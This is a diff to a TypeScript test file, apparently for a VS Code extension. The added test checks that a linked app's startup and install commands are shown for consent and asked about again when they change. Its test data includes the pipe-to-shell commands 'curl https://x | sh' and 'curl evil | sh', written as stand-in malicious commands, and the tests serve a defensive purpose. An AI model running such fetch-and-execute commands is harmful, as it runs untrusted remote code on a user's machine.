@@ -11,6 +11,7 @@ import { FolderRuns, type FolderRunsOptions } from "../../../../src/features/loc
 import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
 import { MemoryState } from "../../../support/memoryState";
 import { realFiles } from "../../../support/realFiles";
+import { someAccounts } from "../../../support/someApp";
 import { temporaryFolder } from "../../../support/temporaryFolder";
 import { workspace } from "../../../support/vscodeParts";
 
@@ -102,6 +103,35 @@ describe("the question before a folder runs on this machine", () => {
     projectFile({ name: "Shop", startupCommand: "curl https://x | sh" });
     await assert.rejects(update(), { name: "CancelledError" });
     assert.equal(sent.length, 3);
+  });
+
+  it("shows the commands of the linked app, also to a call of our own code, and again when they change", async () => {
+    let app: object = { startupCommand: "python run.py", installCommand: "make deps", memoryMB: 512 };
+    const account = { id: "a", apps: { find: () => app }, client: { getApp: async () => app } };
+    Object.assign(runs["options"], { accounts: someAccounts(account) });
+    projectFile({ name: "Shop", mainFile: "main.py", memoryMB: 128, appId: "app1" });
+    await assert.rejects(runs.run(withConsent({ folder })), { name: "CancelledError" });
+    assert.deepEqual(window.asked.at(-1)?.lines.slice(1), [
+      "It starts with the command: python run.py",
+      "Its packages are installed first with the command: make deps",
+    ]);
+    const signal = new AbortController().signal;
+    const uri = vscode.Uri.file(folder);
+    const sent: Record<string, unknown>[] = [];
+    const run = {
+      ...{ uri, note: () => undefined },
+      send: async (_files: unknown, request: Record<string, unknown>) => void sent.push(request),
+    };
+    const update = async () =>
+      await runs["send"](run as never, await DeployFolder.read(uri, new MemoryState(), { signal }), signal);
+    window.answer = "Run";
+    await update();
+    const { startupCommand, installCommand, memoryMB } = sent[0] ?? {};
+    assert.deepEqual([startupCommand, installCommand, memoryMB], ["python run.py", "make deps", 512]);
+    app = { ...app, installCommand: "curl evil | sh" };
+    window.answer = undefined;
+    await assert.rejects(update(), { name: "CancelledError" });
+    assert.equal(sent.length, 1);
   });
 
   it("is refused where the command does not fit", async () => {
